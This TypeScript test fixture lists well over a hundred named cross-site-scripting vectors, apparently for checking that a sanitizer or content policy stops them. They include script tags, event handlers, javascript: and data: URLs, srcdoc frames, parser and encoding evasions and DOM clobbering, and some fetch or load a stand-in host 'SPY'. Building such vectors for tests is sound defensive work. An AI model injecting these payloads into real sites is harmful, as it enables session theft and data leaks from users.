/** Places from which a page may try to run a script. `RUN` is the script; no browser may request the address `SPY`. */
import type { Vectors } from './vectors.ts';

export const SCRIPTS: Vectors = {
  script: '<script>RUN</script>',
  'script in head': '<!doctype html><html><head><script>RUN</script></head><body>x</body></html>',
  'script from elsewhere': '<script src="SPY"></script>',
  'script async': '<script async src="SPY"></script><script defer src="SPY"></script>',
  module: '<script async type="module">RUN</script>',
  'module from elsewhere': '<script async type="module" src="SPY"></script>',
  'module import': '<script async type="module">import "SPY"</script>',
  'import map':
    '<script type="importmap">{"imports":{"a":"SPY"}}</script><script async type="module">import "a"</script>',
  'speculation rules':
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["SPY"]}],"prerender":[{"source":"list","urls":["SPY"]}]}</script>',
  'script data url': '<script src="data:text/javascript,RUN"></script>',
  'script in mixed case': '<ScRiPt>RUN</sCrIpT>',
  'script with a slash': '<script/x>RUN</script/y>',
  'script with a form feed': '<script\f>RUN</script>',
  'script without end': '<script>RUN',
  'script in pieces': '<scr<script>ipt>RUN</scr</script>ipt>',
  'script of another language': '<script language="javascript">RUN</script>',
  'script with a nonce': '<script nonce="">RUN</script>',
  'script in svg': '<svg><script>RUN</script></svg>',
  'script in svg from elsewhere':
    '<svg><script href="SPY"></script><script xlink:href="SPY"></script></svg>',
  'script in math': '<math><script>RUN</script></math>',
  'script in template': '<template><script>RUN</script></template>',
  'script in shadow root':
    '<div><template shadowrootmode="open"><script>RUN</script><img src=x onerror="RUN"></template></div>',
  'script in nested shadow roots':
    '<div><template shadowrootmode="open"><div><template shadowrootmode="open"><img src=x onerror="RUN"></template></div></template></div>',
  'script in noscript': '<noscript><script>RUN</script><img src="SPY"></noscript>',
  'script in a table': '<table><script>RUN</script><tr><td><script>RUN</script></table>',
  'script in select': '<select><option><script>RUN</script></option></select>',
  'script in title': '<title><script>RUN</script></title></title><script>RUN</script>',
  'script in textarea': '<textarea><script>RUN</script></textarea></textarea><script>RUN</script>',
  'script after style': '<style></style><script>RUN</script></style>',
  'script after xmp': '<xmp></xmp><script>RUN</script></xmp>',
  'script after noembed': '<noembed></noembed><script>RUN</script></noembed>',
  'script after noframes': '<noframes></noframes><script>RUN</script></noframes>',
  'script before plaintext': '<script>RUN</script><plaintext><script>RUN</script>',
  'script after comment': '<!-- --><script>RUN</script><!-- -->',
  'script after short comment': '<!--><script>RUN</script>-->',
  'script after abrupt comment': '<!---><script>RUN</script>-->',
  'script after banged comment': '<!-- --!><script>RUN</script>-->',
  'script in nested comment': '<!-- <!-- --><script>RUN</script> -->',
  'script in conditional comment': '<!--[if gte IE 4]><script>RUN</script><![endif]-->',
  'script in downlevel-revealed comment': '<![if !IE]><script>RUN</script><![endif]>',
  'script in cdata': '<![CDATA[<script>RUN</script>]]>',
  'script in cdata of svg': '<svg><![CDATA[</svg><script>RUN</script>]]></svg>',
  'script after declaration': '<?xml version="1.0"?><script>RUN</script>',
  'script in an entity': '<!doctype html [<!ENTITY x "<script>RUN</script>">]>&x;',
  'script with a long s': '<ſcript>RUN</ſcript>',
  'script in utf-7': '<meta charset="utf-7">+ADw-script+AD4-RUN+ADw-/script+AD4-',
  'script behind an escape': '\u001B$B<a title="\u001B(B"><script>RUN</script>',
  'script behind zeros': '<\u0000script>RUN</script><scr\u0000ipt>RUN</script>',
  'script of a custom element': '<x-y onclick="RUN" onfocus="RUN" tabindex=0 autofocus>x</x-y>',

  'handler of body': '<body onload="RUN" onpageshow="RUN" onfocus="RUN" onresize="RUN">x',
  'handler of html': '<html onfocus="RUN" onmousemove="RUN" onclick="RUN">x',
  'handler of frameset': '<html><frameset onload="RUN"><frame src="SPY"></frameset></html>',
  'handler of image': '<img src=x onerror="RUN">',
  'handler of image that loads':
    '<img onload="RUN" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs=">',
  'handler of image element': '<image src=x onerror="RUN">',
  'handler without quotes': '<img src=x onerror=RUN//',
  'handler with slashes': '<img/src=x/onerror=RUN>',
  'handler after a null': '<img src=x\u0000 onerror="RUN">',
  'handler in mixed case': '<IMG SRC=x OnErRoR="RUN">',
  'handler in entities': '<img src=x onerror="&#102;etch(`SPY`)&#59;RUN">',
  'handler after broken quotes': '<img """><img src=x onerror="RUN">">',
  'handler of svg': '<svg onload="RUN"></svg>',
  'handler of svg with slash': '<svg/onload=RUN>',
  'handler of animate': '<svg><animate onbegin="RUN" attributeName="x" dur="1s"></animate></svg>',
  'handler of set': '<svg><set onbegin="RUN" attributeName="x" to="1"></set></svg>',
  'handler of discard': '<svg><discard onbegin="RUN"/></svg>',
  'handler of video': '<video src=x onerror="RUN" onloadstart="RUN"></video>',
  'handler of source': '<video><source src=x onerror="RUN"></video>',
  'handler of audio': '<audio src=x onerror="RUN" onloadstart="RUN"></audio>',
  'handler of input': '<input autofocus onfocus="RUN" onblur="RUN">',
  'handler of textarea': '<textarea autofocus onfocus="RUN"></textarea>',
  'handler of select': '<select autofocus onfocus="RUN"></select>',
  'handler of button': '<button autofocus onfocus="RUN">x</button>',
  'handler of editable': '<div contenteditable tabindex=0 autofocus onfocus="RUN">x</div>',
  'handler of details': '<details open ontoggle="RUN"><summary>x</summary></details>',
  'handler of dialog': '<dialog open autofocus onfocus="RUN" onclose="RUN">x</dialog>',
  'handler of popover':
    '<div id=p popover onbeforetoggle="RUN" ontoggle="RUN">x</div><button popovertarget=p>x</button>',
  'handler of marquee': '<marquee onstart="RUN" onfinish="RUN" loop=1 width=1>x</marquee>',
  'handler of animation':
    '<style>@keyframes k{from{color:red}}</style><p style="animation:k 1ms" onanimationstart="RUN" onanimationend="RUN">x</p>',
  'handler of transition':
    '<style>p{transition:color 1ms}@starting-style{p{color:red}}</style><p ontransitionrun="RUN" ontransitionend="RUN">x</p>',
  'handler of content visibility':
    '<p style="content-visibility:auto" oncontentvisibilityautostatechange="RUN">x</p>',
  'handler of a match': '<p hidden=until-found onbeforematch="RUN">x</p>',
  'handler of scrolling':
    '<div style="height:9px;overflow:scroll" onscroll="RUN" onscrollend="RUN"><p id=x style="margin:99px">x</div>',
  'handler of pointer':
    '<div style="position:fixed;inset:0" onpointerover="RUN" onmouseover="RUN" onmousemove="RUN" onpointerrawupdate="RUN">x</div>',
  'handler of a policy violation':
    '<body onsecuritypolicyviolation="RUN"><img src="http://192.0.2.1/"></body>',
  'handler of an object': '<object data=x onerror="RUN" onload="RUN"></object>',
  'handler of an embed': '<embed src=x onload="RUN" onerror="RUN">',
  'handler of a frame': '<iframe onload="RUN"></iframe>',
  'handler of a link': '<link rel=stylesheet href=x onerror="RUN" onload="RUN">',
  'handler of a style': '<style onload="RUN">p{}</style>',
  'handler of a script': '<script src=x onerror="RUN"></script>',
  'handler of a track': '<video><track default src=x onerror="RUN"></video>',
  'handler of a font': '<font onclick="RUN" onmouseover="RUN" size=7>x</font>',

  'javascript link': '<a href="javascript:RUN" autofocus>x</a>',
  'javascript frame': '<iframe src="javascript:RUN"></iframe>',
  'javascript object': '<object data="javascript:RUN"></object>',
  'javascript embed': '<embed src="javascript:RUN">',
  'javascript image': '<img src="javascript:RUN" lowsrc="javascript:RUN" dynsrc="javascript:RUN">',
  'javascript background': '<table background="javascript:RUN"><tr><td>x</table>',
  'javascript sheet': '<link rel=stylesheet href="javascript:RUN">',
  'javascript style': '<p style="background:url(javascript:RUN)">x</p>',
  'javascript base': '<base href="javascript:RUN;//"><a href="#x">x</a>',
  'javascript refresh': '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  'data refresh':
    '<meta http-equiv=refresh content="0;url=data:text/html,<script>fetch(\'SPY\')</script>">',
  'data frame': '<iframe src="data:text/html,<script>RUN</script>"></iframe>',
  'data object': '<object data="data:text/html,<script>RUN</script>" type="text/html"></object>',
  'data embed':
    "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(&quot;SPY&quot;)'/>\">",
  'srcdoc frame': '<iframe srcdoc="<script>RUN</script>"></iframe>',
  'srcdoc frame in entities':
    '<iframe srcdoc="&lt;img src=x onerror=&quot;RUN&quot;&gt;"></iframe>',
  'srcdoc frame that allows itself':
    '<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>RUN</script>"></iframe>',
  'fenced frame': '<fencedframe src="SPY"></fencedframe>',
  portal: '<portal src="SPY"></portal>',
  applet: '<applet code="x.class" codebase="SPY" archive="SPY"></applet>',
  'animated link':
    '<svg><a><animate attributeName=href values="javascript:RUN"/><text y=20>x</text></a></svg>',
  'animated frame':
    '<svg><foreignObject><iframe id=f></iframe></foreignObject><set href="#f" attributeName="src" to="javascript:RUN"/></svg>',
  'use of data':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=RUN></svg>#x"/></svg>',
  'foreign object':
    '<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="RUN"><img src=x onerror="RUN"></body></foreignObject></svg>',
  'xlink in math': '<math xlink:href="javascript:RUN"><mtext>x</mtext></math>',
  'href in math': '<math href="javascript:RUN">x</math>',
  'xml events':
    '<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">RUN</handler></svg>',
  expression: '<p style="width:expression(RUN)">x</p>',
  binding: '<style>p{-moz-binding:url(SPY#x);behavior:url(SPY)}</style><p>x</p>',
  'frame without end': '<iframe srcdoc="<img src=x onerror=RUN>',

  'clobbered body':
    '<form name=body><input name=appendChild></form><img name=body src=x onerror="RUN">',
  'clobbered document':
    '<img name=getElementById><img name=createElement><img name=querySelector><img name=implementation><form name=head></form><img src=x onerror="RUN">',
  'clobbered attributes':
    '<form onclick="RUN" tabindex=0 autofocus onfocus="RUN"><input name=attributes><input name=nodeName><input name=removeAttribute><input name=parentNode></form>',
  'clobbered child nodes':
    '<form><input name=childNodes><input name=firstChild><img src=x onerror="RUN"></form>',
  'custom built-in':
    '<div is="x-y" onclick="RUN"><button is=z onfocus="RUN" autofocus>x</button></div>',
};
